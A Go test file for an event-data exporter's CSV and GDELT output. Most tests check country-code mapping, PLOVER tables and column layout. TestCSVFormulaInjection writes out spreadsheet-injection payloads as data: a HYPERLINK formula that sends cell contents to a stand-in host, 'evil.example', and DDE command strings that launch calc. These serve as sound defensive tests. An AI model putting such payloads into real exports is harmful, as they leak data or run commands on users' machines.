package export

import (
	"bytes"
	"compress/gzip"
	"encoding/csv"
	"io"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/annals-events/annals"
)

// TestFIPSCoversTheGazetteer: every country annals can place an event in
// has a FIPS 10-4 code, and the codes that differ from ISO are GDELT's.
func TestFIPSCoversTheGazetteer(t *testing.T) {
	for iso, want := range map[string]string{"PAK": "PK", "IRN": "IR", "AFG": "AF", "ISR": "IS", "UKR": "UP", "RUS": "RS",
		"DEU": "GM", "GBR": "UK", "CHN": "CH", "SRB": "RI", "MNE": "MJ", "UNK": "KV", "XKX": "KV", "SSD": "OD", "ALA": "FI", "USA": "US"} {
		if got := FIPS(iso); got != want {
			t.Errorf("FIPS(%s) = %q, want %q", iso, got, want)
		}
	}
	f, err := os.Open("../geo/gazetteer.tsv.gz")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	zr, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(zr)
	n := 0
	for _, line := range strings.Split(string(b), "\n") {
		c := strings.Split(line, "\t")
		if len(c) > 2 && c[0] == "C" {
			n++
			// FIPS 10-4 has no one code for the BES islands or the US
			// Minor Outlying Islands (it has one per island)
			if FIPS(c[2]) == "" && c[2] != "BES" && c[2] != "UMI" {
				t.Errorf("gazetteer country %s (%s) has no FIPS code", c[2], c[1])
			}
		}
	}
	if n < 200 {
		t.Errorf("only %d gazetteer countries", n)
	}
}

func TestGDELTADM1(t *testing.T) {
	for _, c := range []struct{ country, adm1, want string }{
		{"PAK", "PK.02", "PK02"}, // GeoNames admin1 codes are FIPS
		{"PAK", "PK-BA", "PK"},   // ISO 3166-2: no FIPS division known
		{"USA", "US-CA", "USCA"}, // GDELT writes US states by postal code
		{"USA", "US.CA", "USCA"},
		{"GBR", "GB.ENG", "UK"}, // GeoNames' GB codes are not FIPS
		{"IRN", "", "IR"},
		{"ZZZ", "ZZ.01", ""},
	} {
		if got := GDELTADM1(&annals.Location{Country: c.country, ADM1: c.adm1}); got != c.want {
			t.Errorf("GDELTADM1(%s, %s) = %q, want %q", c.country, c.adm1, got, c.want)
		}
	}
}

func TestPloverTable(t *testing.T) {
	for code, want := range map[string]PloverEntry{
		"041":  {Event: "CONSULT", Mode: "phone"},
		"0871": {Event: "RETREAT", Mode: "ceasefire", Context: []string{"military"}},
		"1124": {Event: "ACCUSE", Mode: "allege", Context: []string{"military", "legal"}},
		"08":   {Event: "CONCEDE"},
	} {
		got, ok := Plover(code)
		if !ok || got.Event != want.Event || got.Mode != want.Mode || strings.Join(got.Context, ",") != strings.Join(want.Context, ",") {
			t.Errorf("Plover(%s) = %+v, %v; want %+v", code, got, ok, want)
		}
	}
	if _, ok := Plover("010"); ok {
		t.Error("PLOVER codes no statements, yet 010 has a row")
	}
	// every row's event type has a quad class
	for code, e := range ploverOf {
		if PloverQuad(e.Event) == 0 {
			t.Errorf("%s: PLOVER type %q has no quad class", code, e.Event)
		}
	}
}

func TestGDELTRow(t *testing.T) {
	added := time.Date(2024, 2, 3, 4, 5, 6, 0, time.UTC)
	e := annals.StoredEvent{ID: 7, Event: annals.Event{Source: "PAKMIL", Target: "IRN", Code: "190", Root: "19", QuadClass: 4, EventDate: "2024-01-18",
		Location: &annals.Location{Name: "Saravan", Country: "IRN", ADM1: "IR.04", Precision: "city"}},
		Evidence: []annals.Evidence{{DocID: "d1", URL: "https://example.org/a"}}}
	var buf bytes.Buffer
	w, _ := New("gdelt", &buf, Options{Extra: map[int64]Extra{7: {Root: true, Added: added}}})
	if err := w.Write(e); err != nil {
		t.Fatal(err)
	}
	w.Close()
	r := csv.NewReader(&buf)
	r.Comma = '\t'
	row, err := r.Read()
	if err != nil {
		t.Fatal(err)
	}
	for i, want := range map[int]string{25: "1", 26: "190", 28: "19", 51: "4", 53: "IR", 54: "IR04", 59: "20240203040506", 60: "https://example.org/a", 7: "PAK", 12: "MIL"} {
		if row[i] != want {
			t.Errorf("column %d = %q, want %q", i+1, row[i], want)
		}
	}
}

func TestSchemaMatchesHeader(t *testing.T) {
	if len(csvFields) != len(CSVHeader) {
		t.Fatalf("%d schema fields, %d columns", len(csvFields), len(CSVHeader))
	}
	for i, f := range csvFields {
		if f.name != CSVHeader[i] {
			t.Errorf("field %d: %s != %s", i, f.name, CSVHeader[i])
		}
	}
}

// TestCSVFormulaInjection: text cells that a spreadsheet would run as a
// formula are written as text; numbers, negative ones too, stay numbers.
func TestCSVFormulaInjection(t *testing.T) {
	e := annals.StoredEvent{ID: 7}
	e.Source, e.Target, e.Code, e.Goldstein, e.EventDate = "IRN", "PAK", "190", -10, "2024-01-16"
	e.SourceText = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	e.TargetText = "+cmd|' /C calc'!A0"
	e.Rule = "@SUM(1+1)"
	e.Evidence = []annals.Evidence{{URL: "-2+3+cmd|' /C calc'!A0", Sentence: "=1+1"}}
	for _, format := range []string{"csv", "gdelt"} {
		var b bytes.Buffer
		w, err := New(format, &b, Options{})
		if err != nil {
			t.Fatal(err)
		}
		if err := w.Write(e); err != nil {
			t.Fatal(err)
		}
		w.Close()
		r := csv.NewReader(&b)
		if format == "gdelt" {
			r.Comma = '\t'
		}
		r.FieldsPerRecord = -1
		r.LazyQuotes = true
		recs, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		sawNegative := false
		for _, rec := range recs {
			for _, c := range rec {
				if c != "" && strings.ContainsRune("=+@", rune(c[0])) || strings.HasPrefix(c, "-2+3") {
					t.Errorf("%s: cell %q would run as a formula", format, c)
				}
				if c == "-10.0" || c == "-10" {
					sawNegative = true
				}
			}
		}
		if !sawNegative {
			t.Errorf("%s: the Goldstein score -10 is no longer a plain number: %v", format, recs)
		}
	}
}
